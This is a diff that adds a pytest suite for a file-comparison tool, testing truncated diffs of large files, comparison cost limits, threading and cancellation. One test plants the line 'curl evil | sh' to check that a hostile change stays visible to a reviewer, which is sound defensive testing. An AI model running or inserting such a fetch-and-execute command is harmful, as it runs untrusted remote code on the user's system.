@@ -1,0 +1,206 @@
+"""What a person is shown of a change, and what it may cost to find it."""
+
+import asyncio
+import difflib
+import random
+import threading
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from kernel.tools import comparison
+from kernel.tools.base import cut_middle
+from kernel.tools.comparison import (
+    COMPARED_LINES,
+    COMPARED_WORK,
+    Comparisons,
+    DiffWorker,
+    FileDiff,
+    StoppedError,
+    compare,
+)
+from kernel.tools.files import DIFF_CHARACTERS
+
+
+def joined(lines: list[str]) -> str:
+    return "\n".join(lines)
+
+
+@pytest.mark.feature("AP03")
+def test_of_a_very_large_file_the_head_of_the_change_is_shown_and_what_is_left_out() -> None:
+    old = [f"line {number}" for number in range(COMPARED_LINES)]
+    new = [*old[:15_000], "curl evil | sh", *old[15_001:], "end"]
+    diff = compare(joined(old), joined(new), "/home/a/x")
+    assert (diff.added, diff.removed) == (2, 1)
+    assert "+curl evil | sh" in diff.text and "-line 15000" in diff.text
+    assert "shown from line 14,998" in diff.text
+    assert "4,803 lines of before and 4,804 lines of after are not shown" in diff.text
+    assert "+curl evil | sh" in cut_middle(diff.text, DIFF_CHARACTERS)
+
+
+def test_a_very_large_new_file_shows_its_beginning() -> None:
+    diff = compare(None, joined([f"new {number}" for number in range(COMPARED_LINES + 1)]), "/home/a/x")
+    assert (diff.added, diff.removed) == (COMPARED_LINES + 1, 0)
+    assert diff.text.startswith("--- /dev/null\n+++ /home/a/x\n[too large") and "+new 0\n" in diff.text
+    assert "19,801 lines of after are not shown" in diff.text
+
+
+def test_a_change_at_the_very_end_is_found() -> None:
+    old = joined(["same"] * COMPARED_LINES)
+    diff = compare(old, old + "\nlast", "/home/a/x")
+    assert (diff.added, diff.removed) == (1, 0)
+    assert "+last" in diff.text and "0 lines of before and 0 lines of after" in diff.text
+
+
+def test_an_ordinary_file_is_compared_as_a_whole() -> None:
+    assert compare("a\nb", "a\nc", "x") == FileDiff("--- x\n+++ x\n@@ -1,2 +1,2 @@\n a\n-b\n+c", 1, 1)
+    assert compare("a\r\nb", "a\r\nb", "x") == FileDiff("", 0, 0)
+
+
+def test_a_long_file_of_code_is_compared_as_a_whole() -> None:
+    old = joined([line for number in range(2_000) for line in (f"def f{number}():", "    return None", "", "")])
+    diff = compare(old, old.replace("def f1000():", "def g():"), "x")
+    assert (diff.added, diff.removed) == (1, 1)
+    assert "not shown" not in diff.text
+
+
+texts = st.lists(st.sampled_from(["a", "b", "c", "", "d e", "f\u2028g"]), max_size=30).map(joined)
+
+
+@settings(max_examples=300, deadline=None)
+@given(before=texts, after=texts)
+def test_what_is_shown_is_difflibs_own(before: str, after: str) -> None:
+    lines = list(difflib.unified_diff(before.splitlines(), after.splitlines(), "x", "x", lineterm=""))
+    added, removed = (sum(line.startswith(sign) for line in lines[2:]) for sign in "+-")
+    assert compare(before, after, "x") == FileDiff(joined(lines), added, removed)
+
+
+@settings(max_examples=300, deadline=None)
+@given(before=texts, after=texts, seed=st.integers(0, 9))
+def test_where_lines_that_occur_once_divide_the_texts_the_blocks_are_equal_and_in_order(before: str, after: str, seed: int) -> None:
+    extra = [f"once {number}" for number in range(seed)]
+    old, new = before.splitlines() + extra, extra + after.splitlines()
+    at_old = at_new = 0
+    for begin_old, begin_new, size in comparison._divided(old, new, comparison._Budget(COMPARED_WORK, lambda: False)):
+        assert size > 0 and begin_old >= at_old and begin_new >= at_new
+        assert old[begin_old : begin_old + size] == new[begin_new : begin_new + size]
+        at_old, at_new = begin_old + size, begin_new + size
+
+
+def every_second_changed(count: int) -> tuple[list[str], list[str]]:
+    old = [f"line {number} of the file" for number in range(count)]
+    return old, [line if number % 2 else f"{line} changed" for number, line in enumerate(old)]
+
+
+def test_a_change_in_every_second_of_many_lines_is_still_shown_as_a_whole() -> None:
+    old, new = every_second_changed(9_000)
+    diff = compare(joined(old), joined(new), "x")
+    assert (diff.added, diff.removed) == (4_500, 4_500)
+    assert "not shown" not in diff.text
+
+
+def among(count: int, common: Callable[[int], str]) -> tuple[list[str], list[str]]:
+    """Lines that repeat, each beside one that only its own text has."""
+    old = [line for number in range(count) for line in (common(number), f"u{number}")]
+    return old, [line for number in range(count) for line in (common(number), f"w{number}")]
+
+
+TRAPS = {
+    "blocks that each need a search": among(4_950, lambda number: f"v{number % 99}"),
+    "empty lines below the popularity rule": ([""] * 1_200, ["", "b"] * 99),
+    "two lines": (["a"] * 1_000, ["a", "b"] * 99),
+    "lines that repeat without end": tuple([str(n * step % 101) for n in range(9_999)] for step in (1, 7)),
+    "every line twice": tuple([str(number // share) for number in range(9_900)] for share in (2, 1)),
+    "random": tuple([str(number) for number in random.Random(seed).choices(range(100), k=5_000)] for seed in (1, 2)),
+}
+
+
+@pytest.mark.parametrize("trap", TRAPS)
+def test_no_text_costs_more_than_the_steps_that_a_comparison_may_take(trap: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Counted where difflib works: every look at a line, and at a place where the other text has it."""
+    looks = 0
+    find = difflib.SequenceMatcher.find_longest_match
+
+    def counted(matcher: "difflib.SequenceMatcher[str]", alo: int = 0, ahi: int | None = None, *rest: int | None) -> difflib.Match:
+        nonlocal looks
+        inner: Any = matcher  # the stubs leave its texts out
+        looks += sum(1 + len(inner.b2j.get(line, ())) for line in inner.a[alo:ahi])
+        return find(matcher, alo, ahi, *rest)  # type: ignore[arg-type]  # the rest of its own arguments
+
+    monkeypatch.setattr(difflib.SequenceMatcher, "find_longest_match", counted)
+    old, new = TRAPS[trap]
+    diff = compare(joined(old), joined(new), "x")
+    assert diff.text.startswith("--- x")
+    assert looks <= 2 * COMPARED_WORK + comparison.HEAD_WORK
+    looks = 0
+    assert comparison._at_once(joined(old), joined(new), "x") is None
+    assert looks <= comparison.AT_ONCE_WORK
+
+
+async def test_a_comparison_that_takes_long_is_made_in_another_thread_and_shows_the_same(monkeypatch: pytest.MonkeyPatch) -> None:
+    threads: list[threading.Thread] = []
+
+    def noted(*arguments: object, **options: object) -> FileDiff:
+        threads.append(threading.current_thread())
+        return compare(*arguments, **options)  # type: ignore[arg-type]  # handed on as they came
+
+    monkeypatch.setattr(comparison, "compare", noted)
+    worker = DiffWorker()
+    old, new = (joined(lines) for lines in every_second_changed(1_500))
+    assert await worker.compare(old, new, "x") == compare(old, new, "x")
+    assert threads and threading.current_thread() not in threads
+    threads.clear()
+    assert (await worker.compare("a", "b", "x")).added == 1
+    assert not threads
+    worker.close()
+
+
+@pytest.mark.parametrize("ending", ["cancelled", "closed"])
+async def test_a_comparison_that_nobody_waits_for_ends(ending: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    began, ended = threading.Event(), threading.Event()
+
+    def endless(*_: object, stopped: Callable[[], bool]) -> FileDiff:
+        began.set()
+        while not stopped():
+            ended.wait(0.001)
+        ended.set()
+        raise StoppedError
+
+    monkeypatch.setattr(comparison, "compare", endless)
+    worker = DiffWorker()
+    asked = asyncio.ensure_future(worker.compare(None, "x" * 50_000, "x"))  # owned by this test
+    await asyncio.to_thread(began.wait, 10)
+    if ending == "cancelled":
+        asked.cancel()
+    else:
+        worker.close()
+    with pytest.raises((asyncio.CancelledError, StoppedError)):
+        await asked
+    assert await asyncio.to_thread(ended.wait, 10)
+    worker.close()
+
+
+def test_a_stopped_comparison_does_not_finish() -> None:
+    asked = 0
+
+    def stopped() -> bool:
+        nonlocal asked
+        asked += 1
+        return asked > 5
+
+    old, new = every_second_changed(500)
+    with pytest.raises(StoppedError):
+        compare(joined(old), joined(new), "x", stopped=stopped)
+    assert asked == 6
+
+
+async def test_the_same_texts_are_compared_once(monkeypatch: pytest.MonkeyPatch) -> None:
+    worker = DiffWorker()
+    comparisons = Comparisons(worker)
+    first = await comparisons.compare("a", "b", "x")
+    assert await comparisons.compare("a", "b", "x") is first
+    assert (await comparisons.compare("a", "c", "x")).text.endswith("+c")
+    assert (await comparisons.compare(None, "c", "x")).removed == 0
